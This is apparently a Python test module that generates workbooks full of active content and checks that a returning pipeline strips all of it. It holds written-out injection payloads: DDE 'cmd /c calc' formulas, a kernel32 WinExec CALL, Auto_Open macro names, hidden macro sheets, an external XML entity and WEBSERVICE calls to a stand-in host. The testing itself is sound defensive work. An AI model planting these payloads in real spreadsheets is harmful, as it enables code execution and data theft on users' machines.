"""Workbooks of everything that runs, asks or leads outside, one kind or some in a mixture; and what comes back when they are sent.

What does not belong here: what may stand in a workbook that goes back (active.py).
"""

import io
import os
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import active
import odd_files
import openpyxl
from python_calamine import CalamineWorkbook
from test_returned import BOOK, FAULT, MAIN, ODD, OFFICE, OUTSIDE, SHEET, after, edited, put, related, replaced, typed

from pipeline.answers.returned.job import Job
from pipeline.answers.returned.workbook import give_back

Parts = dict[str, bytes]


def _in_sheet(text: str) -> Callable[[Parts], None]:
    return replaced(SHEET, "</worksheet>", f"{text}</worksheet>")


def _in_book(text: str) -> Callable[[Parts], None]:
    return replaced(BOOK, "</workbook>", f"{text}</workbook>")


def _part(name: str, text: str, kind: str, source: str = SHEET, content_type: str = "", outside: str = "") -> Callable[[Parts], None]:
    """A part, what it is, and a relation to it; where it leads outside, a relation of its own."""

    def edit(parts: Parts) -> None:
        put(name, text)(parts)
        typed(name, content_type or f"application/vnd.openxmlformats-officedocument.spreadsheetml.{kind}+xml")(parts)
        folder = source.rpartition("/")[0]
        related(source, kind if kind.startswith("http") else f"{OFFICE}/{kind}", os.path.relpath(name, folder))(parts)
        if outside:
            related(name, f"{OFFICE}/{outside}", OUTSIDE, external=True)(parts)

    return edit


def _link(target: str) -> Callable[[Parts], None]:
    return after(
        related(SHEET, f"{OFFICE}/hyperlink", target, external=True),
        replaced(SHEET, "<pageMargins", f'<hyperlinks><hyperlink xmlns:r="{OFFICE}" ref="A4" r:id="rOut"/></hyperlinks><pageMargins'),
    )


def _called(text: str) -> Callable[[Parts], None]:
    """A formula of a cell that had none."""
    return replaced(SHEET, "<v>86</v>", f"<f>{text}</f><v>86</v>")


def _in_utf16(name: str) -> Callable[[Parts], None]:
    return lambda parts: parts.update({name: parts[name].decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")})


DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
PICTURE = (
    f'<xdr:wsDr xmlns:xdr="{DRAWING}/spreadsheetDrawing" xmlns:a="{DRAWING}/main" xmlns:r="{OFFICE}"><xdr:twoCellAnchor><xdr:pic><xdr:nvPicPr>'
    f'<xdr:cNvPr id="2" name="a"><a:hlinkClick r:id="rOut"/></xdr:cNvPr></xdr:nvPicPr><xdr:blipFill><a:blip r:link="rOut"/></xdr:blipFill></xdr:pic>'
    "</xdr:twoCellAnchor></xdr:wsDr>"
)
SHAPE = (
    '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">'
    f'<v:shape id="s" href="{OUTSIDE}"><v:imagedata src="{OUTSIDE}"/><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!chay</x:FmlaMacro>'
    "</x:ClientData></v:shape></xml>"
)
X14 = 'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"'
MORE: dict[str, Callable[[Parts], None]] = {
    **{f"a link to {target}": _link(target) for target in (
        "file:///etc/hostname", "\\\\la.example\\chia-se\\x", "smb://la.example/x", "javascript:alert(1)", "ms-excel:ofe|u|http://la.example/x", "mailto:a@la.example",
    )},
    **{f"the formula {text[:24]}": _called(text) for text in (
        f'WEBSERVICE("{OUTSIDE}")', f'HYPERLINK("{OUTSIDE}")', f'_xlfn.IMAGE("{OUTSIDE}")', f'FILTERXML(_xlfn.WEBSERVICE("{OUTSIDE}"),"//a")',
        'RTD("la.example",,"x")', 'CALL("kernel32","WinExec","JC","calc")', 'REGISTER.ID("a","b")', 'SQL.REQUEST("la.example")',
        'CUBEVALUE("la.example")', "W&#69;BSERVICE(&quot;http://la.example&quot;)", "'[la.example.xlsx]S'!A1", "DDE(\"la.example\",\"x\",\"y\")",
        '_xll.LAEXAMPLE(1)', 'INDIRECT("[la.example.xlsx]S!A1")', 'CELL("filename")', '_xlfn._xlws.PY(0,0)', "+cmd|' /c la.example'!A0",
        '_xlfn.STOCKHISTORY("la.example")', '_xlfn.LAMBDA(_xlpm.x,WEBSERVICE(_xlpm.x))("http://la.example")',
    )},
    "a shared formula": replaced(SHEET, "<v>86</v>", f'<f t="shared" ref="C4:C5" si="0">WEBSERVICE("{OUTSIDE}")</f><v>86</v>'),
    "a picture that lies elsewhere": after(
        _part("xl/drawings/drawing1.xml", PICTURE, "drawing", content_type="application/vnd.openxmlformats-officedocument.drawing+xml", outside="image"),
        _in_sheet(f'<drawing xmlns:r="{OFFICE}" r:id="rOut"/>'),
    ),
    "a shape that is clicked": after(
        _part("xl/drawings/vml9.vml", SHAPE, "vmlDrawing", content_type="application/vnd.openxmlformats-officedocument.vmlDrawing"),
        _in_sheet(f'<legacyDrawing xmlns:r="{OFFICE}" r:id="rOut"/>'),
    ),
    "a header's picture": after(
        _part("xl/drawings/vml8.vml", SHAPE, "vmlDrawing", content_type="application/vnd.openxmlformats-officedocument.vmlDrawing"),
        _in_sheet(f'<legacyDrawingHF xmlns:r="{OFFICE}" r:id="rOut"/>'),
    ),
    "a control": after(
        _part("xl/activeX/activeX1.xml", '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{la.example}"/>', "control",
              content_type="application/vnd.ms-office.activeX+xml"),
        _in_sheet(f'<controls><control xmlns:r="{OFFICE}" shapeId="1" r:id="rOut" name="a"/></controls>'),
    ),
    "DDE in an external book": _part(
        "xl/externalLinks/externalLink1.xml",
        f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c la.example"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>',
        "externalLink", BOOK, outside="externalLinkPath"),
    "OLE in an external book": _part(
        "xl/externalLinks/externalLink2.xml",
        f'<externalLink xmlns="{MAIN}"><oleLink xmlns:r="{OFFICE}" r:id="rOut" progId="la.example"/></externalLink>', "externalLink", BOOK, outside="oleObject"),
    "a web query": after(
        _part("xl/connections.xml", f'<connections xmlns="{MAIN}"><connection id="1" type="4"><webPr url="{OUTSIDE}"/></connection></connections>', "connections", BOOK),
        _part("xl/queryTables/queryTable1.xml", f'<queryTable xmlns="{MAIN}" name="a" connectionId="1" refreshOnLoad="1"/>', "queryTable"),
    ),
    "a ribbon": _part("customUI/customUI14.xml", '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="la.example"/>',
                      "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", BOOK, "application/xml"),
    "an add-in": _part("xl/webextensions/taskpanes.xml", f'<a xmlns="la.example">{OUTSIDE}</a>',
                       "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", BOOK, "application/vnd.ms-office.webextensiontaskpanes+xml"),
    "a macro sheet": after(
        _part("xl/macrosheets/sheet1.xml", f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><f>EXEC("la.example")</f></c></row></sheetData></xm:macrosheet>',
              "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", BOOK, "application/vnd.ms-excel.macrosheet+xml"),
        replaced(BOOK, "</sheets>", f'<sheet xmlns:r="{OFFICE}" name="Chạy" sheetId="7" state="veryHidden" r:id="rOut"/></sheets>'),
    ),
    "a name that opens": replaced(BOOK, "<definedName ", '<definedName name="_xlnm.Auto_Open">EXEC("la.example")</definedName><definedName '),
    "a name of another book": replaced(BOOK, "<definedName ", '<definedName name="xa">[1]S!$A$1</definedName><definedName '),
    "macros": _part("xl/vbaProject.bin", "la.example", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", BOOK, "application/vnd.ms-office.vbaProject"),
    "a pivot that asks": _part("xl/pivotCache/pivotCacheDefinition1.xml", f'<pivotCacheDefinition xmlns="{MAIN}" refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>',
                               "pivotCacheDefinition", BOOK),
    "a picture in a cell": _part("xl/richData/rdRichValueWebImage.xml", f'<webImagesSrd xmlns="{MAIN}">{OUTSIDE}</webImagesSrd>',
                                 "http://schemas.microsoft.com/office/2020/07/relationships/rdRichValueWebImage", BOOK, "application/vnd.ms-excel.rdrichvaluewebimage+xml"),
    "real-time data": _part("xl/volatileDependencies.xml", f'<volTypes xmlns="{MAIN}"><volType type="realTimeData"><main first="la.example"/></volType></volTypes>', "volatileDependencies", BOOK),
    "publishing": _in_sheet(f'<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="{OUTSIDE}"/></webPublishItems>'),
    "groups of functions": _in_book('<functionGroups><functionGroup name="la.example"/></functionGroups>'),
    "a sparkline": _in_sheet(f'<extLst><ext uri="{{2}}" {X14}><x14:sparklineGroups><x14:sparklineGroup><x14:sparklines><x14:sparkline><xm:f>[1]la.example!A1</xm:f></x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst>'),
    "a colour rule of 2010": _in_sheet(f'<extLst><ext uri="{{3}}" {X14}><x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type="expression"><xm:f>WEBSERVICE("{OUTSIDE}")</xm:f></x14:cfRule></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>'),
    "a bar whose length is asked for": replaced(SHEET, "<conditionalFormatting ", f'<conditionalFormatting sqref="C4"><cfRule type="dataBar" priority="9"><dataBar><cfvo type="formula" val="WEBSERVICE(&quot;{OUTSIDE}&quot;)"/><cfvo type="max"/><color rgb="FF00FF00"/></dataBar></cfRule></conditionalFormatting><conditionalFormatting '),
    "an entity": replaced(SHEET, "<worksheet", f'<!DOCTYPE worksheet [<!ENTITY e SYSTEM "{OUTSIDE}">]><worksheet'),
    "a style sheet": replaced(SHEET, "<worksheet", f'<?xml-stylesheet type="text/xsl" href="{OUTSIDE}"?><worksheet'),
    "properties that are linked": _part("docProps/custom.xml", f'<Properties xmlns="a"><property linkTarget="{OUTSIDE}"/></Properties>', "custom-properties", BOOK, "application/vnd.openxmlformats-officedocument.custom-properties+xml"),
    "the book in UTF-16": _in_utf16(BOOK),
    "styles in UTF-16": _in_utf16("xl/styles.xml"),
    "a template from elsewhere": related("xl/workbook.xml", f"{OFFICE}/attachedTemplate", OUTSIDE, external=True),
    "a frame of another file": related("xl/worksheets/sheet1.xml", f"{OFFICE}/package", OUTSIDE, external=True),
}  # fmt: skip
# What is done to the zip itself: bytes that belong to no part. (Two parts of one name are refused: test_formats.py.)
PACKED: dict[str, Callable[[bytes], bytes]] = {
    "as it is": lambda data: data,
    "something before it": lambda data: _shifted(data, odd_files.package({"xl/vbaProject.bin": b"la.example"})[:-22]),
    "something behind it": lambda data: data + b"la.example",
    "a comment": lambda data: data[:-2] + b"\x0a\0la.example",
}


def _shifted(data: bytes, before: bytes) -> bytes:
    """The same zip behind other bytes, its list of parts corrected by whoever writes it anew at that place."""
    out = io.BytesIO(before)
    out.seek(len(before))
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "a") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return out.getvalue()


def _open_document() -> bytes:
    """Scripts, events, a form, a frame, formulas and links, as OpenDocument has them."""
    formula = 'office:value-type="string" office:string-value="x" table:formula="of:=WEBSERVICE(&quot;http://la.example&quot;)"'
    link = '<text:p><text:a xlink:href="http://la.example" xmlns:xlink="http://www.w3.org/1999/xlink">Nguyễn Văn 2</text:a></text:p>'
    rows = "".join(f"<table:table-row>{''.join(map(odd_files.ods_cell, row))}</table:table-row>" for row in odd_files.TABLE)
    rows += f"<table:table-row><table:table-cell {formula}>{link}</table:table-cell></table:table-row>"
    script = (
        '<office:scripts><office:script script:language="ooo:Basic" xmlns:script="la.example"/><office:event-listeners><script:event-listener '
        'xmlns:script="la.example" script:event-name="dom:load"/></office:event-listeners></office:scripts><office:body>'
    )
    data = odd_files.changed(odd_files.ods(rows), {"content.xml": lambda xml: xml.replace(b"<office:body>", script.encode())})
    return odd_files.changed(
        data, {"Basic/Standard/script-lb.xml": lambda _: b"<a>la.example</a>", "Object 1/content.xml": lambda _: b"<a>la.example</a>"}
    )


OTHER_FILES: dict[str, Callable[[], bytes]] = {
    "OpenDocument with scripts": _open_document,
    "CSV of formulas": lambda: "\n".join(
        ["Họ và tên;Mức xếp loại;Điểm", "Nguyễn Văn 2;=WEBSERVICE(A1);+1", "Trần Văn 3;@SUM(A1);-2+3+cmd|' /c calc'!A0", '"=HYPERLINK(""x"")";"\t=1";"\r=1"'],
    ).encode(),
    "binary workbook with macros": lambda: odd_files.changed(odd_files.xlsb({(0, 0): "Nguyễn Văn 2", (1, 0): "=cmd|' /c calc'!A0"}), {"xl/vbaProject.bin": lambda _: b"la.example"}),
}  # fmt: skip


@dataclass
class Sent:
    """Workbooks sent and what came of them."""

    tries: int = 0
    kinds: set[str] = field(default_factory=set)
    ends: dict[str, int] = field(default_factory=dict)  # what became of how many
    leaks: list[str] = field(default_factory=list)

    def take(self, kinds: list[str], faults: tuple, end: str, leaks: list[str]) -> None:
        self.tries += 1
        self.kinds |= set(kinds)
        self.ends[end] = self.ends.get(end, 0) + 1
        self.leaks += [f"{' + '.join(kinds)} ({'marked' if faults else 'faultless'}): {leak}" for leak in leaks]


def send_active(count: int, folder: Path, seed: int = 1) -> Sent:
    """Workbooks of one to four kinds of active content, by chance; what goes back is looked through and opened."""
    rng, sent, kinds = random.Random(seed), Sent(), {**ODD, **MORE}
    for kind, made in OTHER_FILES.items():
        for faults in ((), (FAULT,)):
            sent.take([kind], faults, *_given_back(made(), folder, faults))
    for number in range(count):
        chosen = rng.sample(list(kinds), rng.choice((1, 1, 2, 3, 4))) if number >= len(kinds) else [list(kinds)[number]]
        packed = rng.choice(list(PACKED)) if rng.random() < 0.2 else "as it is"
        data, used = _made_of({kind: kinds[kind] for kind in chosen})
        data = PACKED[packed](data)
        words = [*used, *([packed] if packed != "as it is" else [])]
        if not active.problems(data):
            continue  # one kind took the other's place
        faults = (FAULT,) if rng.random() < 0.5 else ()
        sent.take(words, faults, *_given_back(data, folder, faults))
    return sent


def _made_of(edits: dict[str, Callable[[Parts], None]]) -> tuple[bytes, list[str]]:
    """A workbook with these, as far as they go together; each leads to parts under names of its own."""
    used: list[str] = []

    def edit(parts: Parts) -> None:
        for n, (kind, one) in enumerate(edits.items()):
            tried = dict(parts)
            try:
                one(tried)
            except (AssertionError, KeyError, UnicodeDecodeError):
                continue  # what it would be put into is another's already
            parts.clear()
            parts.update({name: text.replace(b"rOut", b"rOut%d" % n) for name, text in tried.items()})
            used.append(kind)

    return edited(edit, whole=True), used


def _given_back(data: bytes, folder: Path, faults: tuple) -> tuple[str, list[str]]:
    source, target = folder / "sent", folder / "back.xlsx"
    source.write_bytes(data)
    target.unlink(missing_ok=True)
    try:
        became = give_back(Job(source, "bao-cao.xlsx", target, faults, ()))
    except Exception as error:
        return f"a summary alone ({type(error).__name__})", []
    back = target.read_bytes()
    leaks = active.problems(back)
    with zipfile.ZipFile(io.BytesIO(back)) as parts:
        leaks += [f"{name} speaks of la.example" for name in parts.namelist() if b"la.example" in parts.read(name).replace(b"\0", b"")]
    book, grid = openpyxl.load_workbook(io.BytesIO(back)), CalamineWorkbook.from_filelike(io.BytesIO(back))
    if book.sheetnames != grid.sheet_names or "Nguyễn Văn" not in str(grid.get_sheet_by_index(0).to_python()):
        leaks.append("its cells are not what they were")
    leaks += [
        f"{cell.coordinate} becomes a formula when it is edited"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
        and cell.data_type != "f"
        and cell.value[:1] in ("=", "+", "-", "@", "\t", "\r")
        and not cell.quotePrefix
    ]
    return {None: "its formulas stay", "frozen": "values for formulas", "values": "values alone"}[became], leaks
